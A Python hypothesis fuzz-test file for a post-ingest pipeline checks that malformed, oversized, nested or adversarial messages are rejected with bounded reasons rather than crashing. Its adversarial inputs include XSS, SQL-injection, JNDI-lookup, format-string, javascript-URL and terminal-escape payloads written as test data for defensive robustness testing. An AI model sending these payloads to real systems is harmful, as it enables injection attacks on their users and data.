"""Fuzzing ingest (validation + routing, no Kafka) with hypothesis.

Whatever arrives on posts.raw, ``route`` returns a Routed post or a Rejection with one of the
bounded reasons and a detail, never raises; the dead letter and the subject posts it leads to
serialise; and over a batch, in = processed + dead-lettered, with every good post processed and
every bad one dead-lettered.
"""

from __future__ import annotations

from collections import Counter
from typing import Any

import orjson
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pipeline.ingest.routing import RecentPosts, Routed, route
from pipeline.ingest.validation import Limits, Rejection, validate_raw
from pipeline.ingest.watchlist import Subject, WatchList
from schemas import REASONS, DeadLetter, SourcePosition

LIMITS = Limits(max_raw_bytes=65_536, max_text_chars=10_000)
WATCH = WatchList(
    [
        Subject("united", "United", handles=("united",), names=("United Airlines",)),
        Subject("delta", "Delta", handles=("delta",), hashtags=("deltafail",)),
    ]
)
SOURCE = SourcePosition(topic="posts.raw", partition=0, offset=0)
FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def good_body(n: int = 1, /, **changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "id": f"p{n}",
        "platform": "twitter",
        "author": {"id": f"a{n}", "handle": f"user{n}", "followers": n},
        "text": "@united where is my bag",
        "created_at": "2015-02-20T10:00:00Z",
    }
    body.update(changes)
    return {k: v for k, v in body.items() if v is not ...}


def ingest(raw: bytes | None, recent: RecentPosts | None = None) -> Routed | Rejection:
    """What the ingest agent does with one message, minus Kafka; asserts its invariants."""
    result = route(raw, LIMITS, WATCH, recent or RecentPosts(100))
    if isinstance(result, Rejection):
        assert result.reason in REASONS, result
        assert isinstance(result.detail, str) and result.detail.strip(), result
        letter = DeadLetter.of(
            raw or b"", result.reason, result.detail, SOURCE, max_raw_bytes=LIMITS.max_raw_bytes
        )
        again = DeadLetter.from_bytes(letter.to_bytes())
        assert again.reason == result.reason
        assert again.raw == (raw or b"")[: LIMITS.max_raw_bytes]
    else:
        assert isinstance(result, Routed), result
        for key, value in result.subject_posts():
            assert orjson.loads(value)["subject"] == key.decode()
    return result


def rejected(raw: bytes | None) -> str:
    result = ingest(raw)
    assert isinstance(result, Rejection), result
    return result.reason


# --- strategies -----------------------------------------------------------------------------

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**63), max_value=2**64 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=50)
)
json_values = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)
FIELDS = ["id", "platform", "author", "text", "created_at", "reply_to", "url", "language"]
adversarial_text = st.sampled_from(
    [
        "",
        " ",
        "\x00",
        "\u202e@united\u202c",  # right-to-left override
        "@\u200bunited",  # zero-width space inside the handle
        "\uff55\uff4e\uff49\uff54\uff45\uff44",  # full-width "united"
        "e\u0301" * 3000,  # combining marks: NFC changes the length
        "💥" * 5000,
        "<script>alert(1)</script>",
        "'; DROP TABLE posts; --",
        "{{7*7}} ${jndi:ldap://x/a}",
        "\\ud800",
        "%s%s%n",
        "@united " * 1200,
        "x" * 10_001,
    ]
)
timestamps = st.sampled_from(
    [
        "0001-01-01T00:00:00+01:00",  # out of datetime's range once in UTC
        "9999-12-31T23:59:59-01:00",
        "2015-02-30T10:00:00Z",
        "2015-02-20T25:00:00Z",
        "1999-12-31T23:59:59Z",
        "2100-01-01T00:00:00Z",
        "",
        "now",
        "2" * 70,
        -1,
        0,
        2**63,
        1e308,
        -1e308,
        True,
        [2015],
        {"$date": 1},
    ]
)


@st.composite
def bad_posts(draw: st.DrawFn) -> bytes:
    """Malformed, wrongly typed, huge, deeply nested, non-UTF-8 or adversarial messages."""
    kinds = ["bytes", "json", "field", "nested", "huge", "utf8", "adversarial"]
    kind = draw(st.sampled_from(kinds))
    if kind == "bytes":
        return draw(st.binary(max_size=300))
    if kind == "json":
        return orjson.dumps(draw(json_values))
    if kind == "field":
        name = draw(st.sampled_from(FIELDS))
        return orjson.dumps(good_body(1, **{name: draw(json_values)}))
    if kind == "nested":
        depth = draw(st.integers(min_value=1, max_value=3000))
        opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")]))
        core = opener * depth + b"1" + closer * depth
        where = draw(st.sampled_from([b'{"schema_version":', b'{"text":', b'{"author":', b""]))
        return where + core + (b"}" if where else b"")
    if kind == "huge":
        size = draw(st.integers(min_value=LIMITS.max_raw_bytes + 1, max_value=300_000))
        return orjson.dumps(good_body(text="y" * size))
    if kind == "utf8":
        raw = orjson.dumps(good_body())
        cut = draw(st.integers(min_value=0, max_value=len(raw)))
        junk = draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80"]))
        return raw[:cut] + junk + raw[cut:]
    name = draw(st.sampled_from(["text", "author", "created_at", "id", "url", "platform"]))
    value: Any
    if name == "text":
        value = draw(adversarial_text)
    elif name == "author":
        value = {"id": "a", "handle": draw(adversarial_text), "followers": draw(json_scalars)}
    elif name == "created_at":
        value = draw(timestamps)
    elif name == "url":
        value = draw(st.sampled_from(["javascript:alert(1)", "http://", "https://" + "a" * 3000]))
    else:
        value = draw(adversarial_text)
    return orjson.dumps(good_body(**{name: value}))


@st.composite
def good_posts(draw: st.DrawFn) -> bytes:
    n = draw(st.integers(min_value=0, max_value=10**9))
    return orjson.dumps(
        good_body(
            n,
            text=draw(st.text(min_size=1, max_size=200).filter(lambda t: t.strip())),
            created_at=draw(st.integers(min_value=946_684_800, max_value=4_102_444_799)),
            platform=draw(st.sampled_from(["twitter", "youtube", "news", "reddit"])),
            reply_to=draw(st.none() | st.integers(min_value=0, max_value=2**62)),
        )
    )


# --- tests ----------------------------------------------------------------------------------


@FUZZ
@given(st.binary(max_size=2_000))
@example(b"")
@example(b"\xef\xbb\xbf{}")
def test_arbitrary_bytes_never_raise(raw: bytes) -> None:
    ingest(raw)


@FUZZ
@given(bad_posts())
def test_bad_posts_never_raise_and_get_a_bounded_reason(raw: bytes) -> None:
    ingest(raw)


@FUZZ
@given(good_posts())
def test_good_posts_are_processed(raw: bytes) -> None:
    result = ingest(raw)
    assert isinstance(result, Routed), result


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.booleans(), good_posts(), bad_posts()), min_size=1, max_size=60))
def test_counts_reconcile_over_a_mixed_stream(mix: list[tuple[bool, bytes, bytes]]) -> None:
    recent = RecentPosts(10_000)
    messages = [(good, raw if good else bad) for good, raw, bad in mix]
    outcomes: Counter[str] = Counter()
    for good, raw in messages:
        result = ingest(raw, recent)
        if isinstance(result, Rejection):
            assert not good, (raw, result)
            outcomes["dead_lettered"] += 1
        else:
            outcomes["processed"] += 1
    good_count = sum(good for good, _ in messages)
    assert outcomes["processed"] + outcomes["dead_lettered"] == len(messages)
    # A "bad" draw that happens to be a valid post is processed: only known-bad ones count here.
    assert outcomes["processed"] >= good_count


def test_known_bad_posts_get_their_reason() -> None:
    cases: dict[bytes | None, str] = {
        None: "not_json",
        b"\xff" + orjson.dumps(good_body()): "bad_encoding",
        orjson.dumps(good_body()).replace(b"bag", b"b\xed\xa0\x80g"): "bad_encoding",
        b"[" * 3000 + b"]" * 3000: "not_json",
        b'{"schema_version":' + b"[" * 1000 + b"]" * 1000 + b"}": "unsupported_version",
        orjson.dumps(good_body(text="y" * 70_000)): "too_large",
        orjson.dumps(good_body(text="x" * 10_001)): "text_too_long",
        orjson.dumps(good_body(created_at="0001-01-01T00:00:00+01:00")): "bad_timestamp",
        orjson.dumps(good_body(created_at="9999-12-31T23:59:59-01:00")): "bad_timestamp",
        orjson.dumps(good_body(created_at=[2015])): "bad_timestamp",
        orjson.dumps(good_body(text={"a": 1})): "wrong_type",
        orjson.dumps(good_body(id="i" * 257)): "invalid_field",
        orjson.dumps(good_body(reply_to="r" * 257)): "invalid_field",
        orjson.dumps(good_body(author={"id": "a", "handle": "h" * 65})): "invalid_field",
        orjson.dumps(good_body(url="https://" + "a" * 3000)): "invalid_field",
        orjson.dumps(good_body(platform="p" * 40)): "invalid_field",
        orjson.dumps(good_body(language="e" * 40)): "invalid_field",
        orjson.dumps([good_body()]): "not_object",
    }
    assert {raw: rejected(raw) for raw in cases} == cases


FAN_OUT = WatchList([Subject(f"s{n}", f"S{n}", handles=(f"b{n}",)) for n in range(300)])


@FUZZ
@given(st.integers(min_value=0, max_value=300), st.randoms(use_true_random=False))
def test_fan_out_is_capped_whatever_the_subjects_named(named: int, rng: Any) -> None:
    # Issue 16, defect 8: hashtag stuffing must not multiply a post past the cap.
    handles = [f"@b{n}" for n in rng.sample(range(300), named)]
    raw = orjson.dumps(good_body(text=" ".join(handles) or "nothing"))
    result = route(raw, LIMITS, FAN_OUT, RecentPosts(10))
    if named > LIMITS.max_subjects_per_post:
        assert isinstance(result, Rejection) and result.reason == "too_many_subjects"
    else:
        assert isinstance(result, Routed) and len(result.subject_posts()) == named


def test_issue_16_hostile_posts_are_accepted_by_ingest_as_valid_posts() -> None:
    # Valid posts whose harm is downstream: a far-future created_at (the signals stage holds
    # and dead-letters it), terminal control codes in text and handle (escaped for humans),
    # matplotlib mathtext in a handle (escaped for plots). Ingest must neither crash nor drop.
    hostile = [
        good_body(created_at="2099-12-31T00:00:00Z"),
        good_body(text="@united \x1b]0;PWNED\x07\x1b[2J"),
        good_body(text="@united \u202e\u0007\x1b[31mred"),
        good_body(author={"id": "a", "handle": "$\\undefinedcmd$", "followers": 1}),
        good_body(author={"id": "a", "handle": "${{{{{{{{{{{{{{{{{{{{$", "followers": 1}),
    ]
    for n, body in enumerate(hostile):
        result = ingest(orjson.dumps({**body, "id": f"h{n}"}))
        assert isinstance(result, Routed) and result.subjects == ["united"], body


def test_a_deeply_nested_version_is_described_not_repr_d() -> None:
    result = validate_raw(b'{"schema_version":' + b"[" * 1000 + b"]" * 1000 + b"}", LIMITS)
    assert isinstance(result, Rejection)
    assert result.detail == "schema_version a JSON array not 1"
